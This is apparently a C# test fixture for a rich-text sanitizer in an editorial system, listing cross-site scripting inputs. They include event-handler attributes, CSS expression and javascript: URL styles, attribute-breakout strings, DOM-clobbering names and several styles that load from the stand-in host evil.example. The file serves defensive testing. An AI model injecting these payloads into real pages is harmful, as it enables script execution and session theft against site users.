namespace Partnership.Editorial.Tests.RichText.Attacks;

/// <summary>Attributes that run, restyle or name something, and the ways of breaking out of one.</summary>
internal static class AttributeAttacks
{
    private static readonly string[] Handlers =
    [
        "onclick", "ONCLICK", "oNcLiCk", "onerror", "onload", "onfocus", "onblur", "onmouseover", "onpointerrawupdate", "onanimationstart",
        "ontransitionend", "onbeforeinput", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onwheel", "onbegin", "onrepeat",
        "onpaste", "oncopy", "onformdata", "onsecuritypolicyviolation", "onx", "fscommand", "seeksegmenttime",
    ];

    private static readonly string[] Styles =
    [
        "background:url(javascript:alert(1))", "width:expression(alert(1))", "width:ex/**/pression(alert(1))", "width:e\\xpression(alert(1))",
        "width:\\0065xpression(alert(1))", "xss:expr/*XSS*/ession(alert(1))", "-moz-binding:url(//evil.example/x.xml#x)", "behavior:url(x.htc)",
        "background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'", "position:fixed;inset:0;z-index:9999", "@import '//evil.example'",
        "list-style-image:url(javascript:alert(1))", "content:url(//evil.example)", "--x:url(//evil.example)", "-o-link:'javascript:alert(1)';-o-link-source:current",
        "font-family:'x;}*{background:url(//evil.example)'", "color:red\0;background:url(x)",
    ];

    public static readonly string[] All =
    [
        .. Handlers.SelectMany(h => new[] { $"<p {h}=\"alert(1)\">t</p>", $"<p/{h}=alert(1)//>t</p>", $"<h1 {h}=alert(1)>t</h1>", $"<p title=\"x\"{h}=alert(1)>t</p>" }),
        .. Styles.SelectMany(s => new[] { $"<p style=\"{s}\">t</p>", $"<table style='{s.Replace('\'', '"')}'><tr><td>t</table>", $"<div style=\"{s}\">t</div>" }),
        """<p title='"><script>alert(1)</script>'>t</p>""",
        """<p title="&quot;><script>alert(1)</script>">t</p>""",
        """<p title="</p><script>alert(1)</script>">t</p>""",
        """<p title="--><script>alert(1)</script>">t</p>""",
        """<p title="`onmouseover=alert(1)">t</p>""",
        """<p title=`><script>alert(1)</script>`>t</p>""",
        """<p title="x" / onclick=alert(1) / >t</p>""",
        """<p title="x" "onclick="alert(1)">t</p>""",
        """<p title='x' 'onclick='alert(1)'>t</p>""",
        """<p =onclick=alert(1)>t</p>""",
        """<p <onclick=alert(1)>t</p>""",
        """<p onclick =	alert(1) >t</p>""",
        "<p onclick\u000b=alert(1)>t</p>",
        "<p on\0click=alert(1)>t</p>",
        "<p title=\"x\0\" onclick=alert(1)>t</p>",
        "<p title=\"\u2028\" onclick\u00a0=alert(1)>t</p>",
        """<h1 "x=1 'y=2 <z=3 onclick=alert(1)>t</h1>""",
        """<div "x=1 onclick=alert(1)>t</div>""",
        """<abbr title="<img src=x onerror=alert(1)>">t</abbr>""",
        """<abbr title="&lt;img src=x onerror=alert(1)&gt;">t</abbr>""",
        """<p lang="x&quot; onclick=&quot;alert(1)">t</p>""",
        """<td colspan="2&quot;onclick=alert(1)">t</td>""",
        """<img alt="&quot;><script>alert(1)</script>" data-media-id="0192a0de-1111-7222-8333-444455556666">""",
        """<img alt="x` onerror=alert(1) `" data-media-id="0192a0de-1111-7222-8333-444455556666">""",
        """<p alt="x" data-media-id="0192a0de-1111-7222-8333-444455556666">t</p>""",
        // Names that shadow those of the document, or that our own scripts and styles listen to
        """<p id="forms" class="govuk-error" name="getElementById">t</p>""",
        """<a id=documentElement><a id=documentElement name=innerHTML href=x>t</a>""",
        """<form name=body><input name=firstChild><input name=attributes></form>""",
        """<img name=cookie><img id=currentScript name=getElementsByTagName alt data-media-id="0192a0de-1111-7222-8333-444455556666">""",
        """<iframe name=defaultView srcdoc="<a id=x>"></iframe>""",
        """<p data-suggest="//evil.example" data-leave data-print data-finder-form data-rich-text>t</p>""",
        """<p class="govuk-notification-banner" role=alert aria-live=assertive hidden tabindex=1 accesskey=x contenteditable draggable=true>t</p>""",
        """<p popover popovertarget=x commandfor=x command=show-modal inert slot=x part=x nonce=x is=x itemscope itemprop=x autofocus>t</p>""",
        """<p xmlns="http://www.w3.org/2000/svg" xml:base="javascript:" xmlns:xlink="x">t</p>""",
        """<p xml:lang="en" xlink:href="javascript:alert(1)" xlink:type="simple">t</p>""",
        """<a rel="noopener" href=" https://ok.example " charset=utf-7 hreflang=x type=text/html coords=1 methods=x urn=x>t</a>""",
        """<table border=1 width=99999999 height=99999999 bgcolor=red frame=box rules=all summary="javascript:alert(1)"><tr><td nowrap abbr=x headers=x axis=x>t</table>""",
        """<ol start="javascript:alert(1)" type="x" compact reversed="onclick"><li value="javascript:alert(1)">t</ol>""",
    ];
}
